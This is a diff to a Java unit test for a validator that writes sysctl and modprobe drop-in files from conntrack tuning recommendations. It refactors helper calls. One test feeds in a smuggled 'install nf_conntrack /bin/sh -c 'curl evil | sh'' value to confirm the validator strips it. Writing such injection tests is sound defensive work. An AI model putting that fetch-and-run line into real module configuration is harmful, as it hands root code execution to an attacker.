@@ -1,6 +1,5 @@
 package io.conntrackadvisor.sink;
 
-import io.conntrackadvisor.sink.dropin.DropInText;
 import static io.conntrackadvisor.sink.TestData.BUCKETS;
 import static io.conntrackadvisor.sink.TestData.MAX;
 import static io.conntrackadvisor.sink.TestData.T;
@@ -42,7 +41,7 @@ class RecommendationValidatorTest {
     ValidRecommendation v = validator.validate(r);
 
     assertThat(v.recommended()).containsExactly(Map.entry(MAX, 262144L));
-    assertThat(DropInText.sysctlConf(v)).doesNotContain("core_pattern").endsWith(MAX + " = 262144\n");
+    assertThat(v.sysctlConf()).doesNotContain("core_pattern").endsWith(MAX + " = 262144\n");
   }
 
   @Test
@@ -92,11 +91,11 @@ class RecommendationValidatorTest {
   void shouldCheckTheHashSizeNumberAndNeverPassTheRecordsModprobeTextOn() throws Exception {
     ValidRecommendation v = validator.validate(TestData.withHashsize("lb-1", 262144, 65536));
     assertThat(v.hashsize()).isEqualTo(65536L);
-    assertThat(DropInText.modprobeConf(v)).endsWith("\noptions nf_conntrack hashsize=65536\n");
+    assertThat(v.modprobeConf()).endsWith("\noptions nf_conntrack hashsize=65536\n");
 
     ValidRecommendation evil = validator.validate(withHashsize(Map.of(MAX, 1024L), 1024L,
         "install nf_conntrack /bin/sh -c 'curl evil | sh'"));
-    assertThat(DropInText.modprobeConf(evil).lines().filter(l -> !l.startsWith("#")))
+    assertThat(evil.modprobeConf().lines().filter(l -> !l.startsWith("#")))
         .containsExactly("options nf_conntrack hashsize=1024");
     assertRejected(withHashsize(Map.of(MAX, 1024L), 99_999_999_999L, null), RejectReason.VALUE_RANGE);
     assertRejected(withHashsize(Map.of(MAX, 1024L), 0L, null), RejectReason.VALUE_RANGE);
@@ -120,7 +119,7 @@ class RecommendationValidatorTest {
     assertThat(v.reasons().get(0)).isEqualTo("line one net.ipv4.ip_forward = 1");
     assertThat(v.reasons().get(1)).isEqualTo("bell  and  RTL override");
     assertThat(v.reasons().get(2)).hasSize(RecommendationValidator.MAX_REASON_CHARS + 1);
-    assertThat(DropInText.sysctlConf(v).lines().filter(l -> !l.startsWith("#")))
+    assertThat(v.sysctlConf().lines().filter(l -> !l.startsWith("#")))
         .containsExactly(MAX + " = 1024");
   }
 
